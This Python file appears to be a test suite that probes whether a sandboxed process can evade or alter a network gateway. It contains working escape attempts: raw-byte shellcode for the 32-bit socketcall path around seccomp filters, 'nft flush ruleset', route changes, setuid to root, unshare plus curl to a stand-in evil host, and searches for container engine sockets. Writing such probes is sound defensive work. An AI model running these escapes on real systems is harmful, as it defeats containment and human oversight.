"""Attempts to change or go round the network itself. Each says `done` where it could."""

import ctypes
import mmap
import os
import platform
import socket
import struct

import plan
from attempt import attempt, each, ending, http, main, run

libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {"x86_64": {"io_uring_setup": 425, "bpf": 321}, "aarch64": {"io_uring_setup": 425, "bpf": 280}}
CALLS = NUMBERS[platform.machine()]


def call(name, *arguments):
    if libc.syscall(CALLS[name], *arguments) < 0:
        raise OSError(ctypes.get_errno(), name)
    return "done"


def opened(*arguments):
    socket.socket(*arguments).close()
    return "done"


@each("family", {
    "vsock": (40, socket.SOCK_STREAM),
    "alg": (38, socket.SOCK_SEQPACKET),
    "packet": (17, socket.SOCK_RAW, socket.htons(3)),
    "packet-datagrams": (17, socket.SOCK_DGRAM, socket.htons(3)),
    "bluetooth": (31, socket.SOCK_RAW, 1),
    "can": (29, socket.SOCK_RAW, 1),
    "tipc": (30, socket.SOCK_SEQPACKET),
    "rds": (21, socket.SOCK_SEQPACKET),
    "kcm": (41, socket.SOCK_DGRAM),
    "qipcrtr": (42, socket.SOCK_DGRAM),
    "smc": (43, socket.SOCK_STREAM),
    "xdp": (44, socket.SOCK_RAW),
    "raw-icmp": (socket.AF_INET, socket.SOCK_RAW, 1),
    "raw-any": (socket.AF_INET, socket.SOCK_RAW, 255),
    "raw-ipv6": (socket.AF_INET6, socket.SOCK_RAW, 58),
})
def family(*arguments):
    return opened(*arguments)


@each("allowed-family", {
    "unix": (socket.AF_UNIX, socket.SOCK_STREAM),
    "inet": (socket.AF_INET, socket.SOCK_STREAM),
    "inet6": (socket.AF_INET6, socket.SOCK_STREAM),
    "netlink": (socket.AF_NETLINK, socket.SOCK_RAW, 0),
})
def allowed_family(*arguments):
    return opened(*arguments)


@attempt
def socketpair_vsock():
    pair = (ctypes.c_int * 2)()
    if libc.socketpair(40, socket.SOCK_STREAM, 0, pair) < 0:
        return ending(OSError(ctypes.get_errno(), ""))
    return "done"


def socketcall(kind):
    """socket(2) as 32-bit programs say it, which filters of the call's arguments do not see."""
    if platform.machine() != "x86_64":
        return "closed none here"
    # mov eax,102; mov ebx,1; mov rcx,rdi; push rbx and int 0x80: registers as the i386 ABI has them.
    code = bytes.fromhex("53 b8 66000000 bb 01000000 48 89 f9 cd 80 5b c3")
    low = 0x40  # MAP_32BIT
    area = mmap.mmap(-1, 8192, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | low, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area[: len(code)] = code
    area[4096:4108] = struct.pack("<III", kind, socket.SOCK_STREAM, 0)
    base = ctypes.addressof(ctypes.c_char.from_buffer(area))
    function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint64)(base)
    # A filter may kill who tries.
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(writer, str(function(base + 4096)).encode())
        os._exit(0)
    os.close(writer)
    status = os.waitpid(child, 0)[1]
    text = os.read(reader, 100).decode()
    os.close(reader)
    if not text:
        return f"closed signal {os.WTERMSIG(status) if os.WIFSIGNALED(status) else status}"
    return "done" if int(text) >= 0 else ending(OSError(-int(text), ""))


@each("socketcall", {"vsock": 40, "alg": 38, "packet": 17})
def old_socketcall(kind):
    return socketcall(kind)


@attempt
def io_uring():
    return call("io_uring_setup", 8, ctypes.create_string_buffer(256))


@attempt
def bpf():
    return call("bpf", 5, ctypes.create_string_buffer(256), 128)


@attempt
def mark():
    with socket.socket() as channel:
        channel.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)
    return "done"


@attempt
def bind_to_device():
    with socket.socket() as channel:
        channel.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
        channel.settimeout(3)
        channel.connect((plan.EVIL, 7777))
        data = channel.recv(100)
    return f"reached {data}" if data else "closed end"


@attempt
def transparent():
    with socket.socket() as channel:
        channel.setsockopt(socket.SOL_IP, 19, 1)
    return "done"


@each("become", {"root": 0, "other": 1337})
def become(number):
    child = os.fork()
    if child == 0:
        try:
            os.setuid(number)
            os._exit(0)
        except OSError:
            os._exit(1)
    return "done" if os.waitpid(child, 0)[1] == 0 else "closed EPERM"


@each("tool", {
    "nft-flush": ("nft", "flush", "ruleset"),
    "nft-table": ("nft", "add", "table", "inet", "probe"),
    "route": ("ip", "route", "add", "198.51.100.0/24", "dev", "lo"),
    "address": ("ip", "address", "add", "203.0.113.99/32", "dev", "lo"),
    "rule": ("ip", "rule", "add", "priority", "1", "table", "main"),
    "link": ("ip", "link", "add", "probe0", "type", "bridge"),
    "down": ("ip", "link", "set", "lo", "down"),
    "namespace": ("unshare", "-n", "true"),
})
def tool(*words):
    code, output = run(*words)
    return "done" if code == 0 else f"closed {code} {output}"


@attempt
def user_namespace():
    """Root in a namespace of one's own; the network there is empty."""
    code, output = run("unshare", "-Urn", "curl", "-sS", "-m", "3", f"http://{plan.EVIL}/")
    return f"reached {output}" if output.startswith("evil") else f"closed {code} {output}"


@attempt
def user_namespace_here():
    """Root in a user namespace only: this network namespace belongs to another one."""
    code, output = run("unshare", "-Ur", "ip", "route", "add", "198.51.100.0/24", "dev", "lo")
    return "done" if code == 0 else f"closed {code} {output}"


@each("listener", {
    "15001-evil": (15001, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "3128-connect": (3128, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "80-evil": (80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "80-allowed": (80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    "80-connect": (80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "443-text": (443, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    "22-nothing": (22, b""),
})
def own_listener(port, data):
    """The gateway's own listeners, which are on every address."""
    return http("127.0.0.1", port, *([data] if data else []), seconds=2)


@attempt
def sockets_in_reach():
    """Abstract Unix sockets, and engines' own."""
    with open("/proc/net/unix") as file:
        abstract = [line.split()[7] for line in list(file)[1:] if len(line.split()) > 7 and line.split()[7][0] == "@"]
    places = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock")
    return "none" if not abstract and not any(map(os.path.exists, places)) else f"reached {abstract}"


@each("take-port", {"53": 53, "80": 80, "443": 443})
def take_port(port):
    """A port of the gateway's, before it is asked anything else."""
    with socket.socket() as channel:
        channel.bind(("0.0.0.0", port))
        channel.listen()
    return "done"


@attempt
def other_listeners():
    """Connecting sockets of other processes can neither be borrowed nor opened."""
    seen = 0
    for process in os.listdir("/proc"):
        if not process.isdigit() or int(process) == os.getpid():
            continue
        try:
            for descriptor in os.listdir(f"/proc/{process}/fd"):
                target = os.readlink(f"/proc/{process}/fd/{descriptor}")
                seen += target.startswith("socket:") and process == "1"
        except OSError:
            pass
    return f"reached {seen}" if seen else "none"


if __name__ == "__main__":
    main()
